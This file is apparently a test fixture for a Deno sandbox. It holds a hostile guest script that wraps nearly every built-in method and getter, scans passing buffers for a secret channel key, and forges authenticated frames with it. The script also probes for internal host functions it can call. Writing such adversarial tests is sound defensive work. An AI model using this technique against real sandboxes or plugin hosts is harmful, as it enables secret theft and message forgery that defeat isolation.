/**
 * Source that puts itself between the guest and everything the language gives it: every method, getter
 * and constructor that can be replaced is wrapped, and whatever passes is searched for a frame. What
 * is found is used at once to forge one. Exports tools that make the guest talk.
 */
export const SPY_SOURCE = `
const { apply, construct, ownKeys, defineProperty, getOwnPropertyDescriptor } = Reflect;
const getPrototypeOf = Reflect.getPrototypeOf;
const Bytes = Uint8Array, Any = Object, ProxyOf = Proxy, text = TextEncoder.prototype.encode;
const encoder = new TextEncoder();
const isView = ArrayBuffer.isView;
const Typed = getPrototypeOf(Uint8Array.prototype);
const bufferOf = getOwnPropertyDescriptor(Typed, "buffer").get;
const dataBufferOf = getOwnPropertyDescriptor(DataView.prototype, "buffer").get;
const lengthOf = getOwnPropertyDescriptor(Typed, "length").get;
const write = Deno.stdout.writeSync.bind(Deno.stdout);
const stolen = [];
const inner = new Set();
const addInner = Set.prototype.add.bind(inner);
let looks = 0, busy = false, seen = 0;

function secretIn(bytes) {
  const size = apply(lengthOf, bytes, []);
  seen++;
  if (size < 21) return -1;
  const announced = bytes[16] | bytes[17] << 8 | bytes[18] << 16 | bytes[19] << 24;
  // A frame of the guest: secret, length, kind.
  if (bytes[20] >= 1 && bytes[20] <= 4 && announced === size - 21) return 0;
  // The frame that brought the secret, left behind in a buffer.
  if (bytes[0] === 16 && bytes[1] === 0 && bytes[3] === 0 && bytes[4] === 5) {
    for (let i = 5; i < 21; i++) if (bytes[i] !== 0) return 5;
  }
  return -1;
}

function forge(bytes, at) {
  const payload = apply(text, encoder, ['{"type":"log","call":1,"level":"error","message":"FORGED"}']);
  const size = apply(lengthOf, payload, []);
  const frame = new Bytes(21 + size);
  for (let i = 0; i < 16; i++) frame[i] = bytes[at + i];
  frame[16] = size;
  frame[20] = 1;
  for (let i = 0; i < size; i++) frame[21 + i] = payload[i];
  write(frame);
}

/** Parts of the guest: whoever holds one of them needs no secret. */
function lookForParts(value) {
  for (const name of PARTS) {
    if (typeof value[name] === "function") addInner(name);
  }
  if (typeof value.sendResult !== "function") return;
  value.send({ type: "log", call: 1, level: "error", message: "FORGED" });
}
const PARTS = ["sendResult", "credit"];

function look(value, depth = 0) {
  looks++;
  if (value === null || (typeof value !== "object" && typeof value !== "function")) return;
  try {
    lookForParts(value);
    let bytes;
    if (isView(value)) {
      let buffer;
      try { buffer = apply(bufferOf, value, []); } catch { buffer = apply(dataBufferOf, value, []); }
      bytes = new Bytes(buffer);
    } else {
      try { bytes = value instanceof ArrayBuffer ? new Bytes(value) : undefined; } catch {}
    }
    if (bytes !== undefined) {
      const at = secretIn(bytes);
      if (at >= 0) { stolen[stolen.length] = at; forge(bytes, at); }
      return;
    }
    if (depth > 2) return;
    const keys = ownKeys(value);
    for (let i = 0; i < keys.length && i < 12; i++) {
      const held = getOwnPropertyDescriptor(value, keys[i]);
      if (held !== undefined && "value" in held) look(held.value, depth + 1);
    }
  } catch {}
}

function watch(...values) {
  if (busy) return;
  busy = true;
  for (let i = 0; i < values.length; i++) look(values[i]);
  busy = false;
}

function spyOn(original) {
  return new ProxyOf(original, {
    __proto__: null,
    apply(target, self, args) {
      if (busy) return apply(target, self, args);
      watch(self, args);
      const result = apply(target, self, args);
      watch(result);
      return result;
    },
    construct(target, args, newTarget) {
      watch(args);
      const made = construct(target, args, newTarget);
      watch(made);
      return made;
    },
  });
}

function wrap(holder) {
  if (holder === null || holder === undefined) return;
  for (const key of ownKeys(holder)) {
    const held = getOwnPropertyDescriptor(holder, key);
    if (key === "prototype" || !held.configurable) continue;
    try {
      if (typeof held.value === "function") {
        if (key === "constructor") {
          const kept = held.value;
          defineProperty(holder, key, {
            __proto__: null, configurable: true,
            get() { watch(this); return kept; },
            set(value) { defineProperty(this, key, { __proto__: null, value, writable: true }); },
          });
        } else {
          defineProperty(holder, key, { __proto__: null, ...held, value: spyOn(held.value) });
        }
      } else if (held.get !== undefined) {
        const { get, set } = held;
        defineProperty(holder, key, {
          __proto__: null, configurable: true, set,
          get() { watch(this); return apply(get, this, []); },
        });
      }
    } catch {}
  }
}

function wrapEverything() {
  const holders = [
    Typed, Typed.constructor, Uint8Array.prototype, DataView.prototype, ArrayBuffer.prototype,
    ArrayBuffer, Array.prototype, Map.prototype, Set.prototype, WeakMap.prototype,
    Function.prototype, Promise.prototype, Promise, JSON, Math, Number, Number.prototype,
    String.prototype, String, RegExp.prototype, Symbol.prototype, TextEncoder.prototype,
    TextDecoder.prototype, Error.prototype, Error, AbortController.prototype,
    AbortSignal.prototype, EventTarget.prototype, Event.prototype, Headers.prototype,
    ReadableStream.prototype, ReadableStreamDefaultReader.prototype,
    ReadableStreamDefaultController.prototype, Response.prototype, Request.prototype, URL.prototype,
    Performance.prototype, Deno.stdout, getPrototypeOf(Deno.stdout), Deno, console,
    getPrototypeOf([][Symbol.iterator]()), getPrototypeOf(new Map().keys()),
    getPrototypeOf(getPrototypeOf([][Symbol.iterator]())), Iterator, Reflect,
    getPrototypeOf(async function () {}), getPrototypeOf(async function* () {}).prototype,
    Object.prototype, Object, globalThis,
  ];
  for (const holder of holders) wrap(holder);
  for (const name of ["toJSON", "then", "done", "cause", "signal", "byteLength", "length", "buffer"]) {
    if (name in Object.prototype) continue;
    defineProperty(Any.prototype, name, {
      __proto__: null, configurable: true,
      get() { watch(this); },
      set(value) {
        defineProperty(this, name, {
          __proto__: null, value, writable: true, configurable: true, enumerable: true,
        });
      },
    });
  }
  // An own property of the nearer prototype comes before the engine's getter.
  for (const name of ["length", "byteLength", "byteOffset", "buffer"]) {
    const { get } = getOwnPropertyDescriptor(Typed, name);
    defineProperty(Bytes.prototype, name, {
      __proto__: null, configurable: true, get() { watch(this); return apply(get, this, []); },
    });
  }
}
wrapEverything();

export const attack = () => ({
  stolen: stolen.length,
  channel: inner.has("sendResult"),
  // It is known to look deep: bodies of requests are no secret, and it finds those.
  sawBodies: inner.has("credit"),
  sawBytes: seen > 0 && looks > 100,
});
export function talk() {
  console.log("a line", { of: 1 });
  console.error("another".repeat(100));
  return { large: "x".repeat(40000), list: [1, 2, 3], bytes: new Bytes(100) };
}
export async function* stream() { yield "a"; yield { b: 1 }; }
export function fail() { throw new TypeError("on purpose"); }
export const ask = async () =>
  await (await fetch("https://example.com/", { method: "POST", body: "b".repeat(100000) })).text();
`;
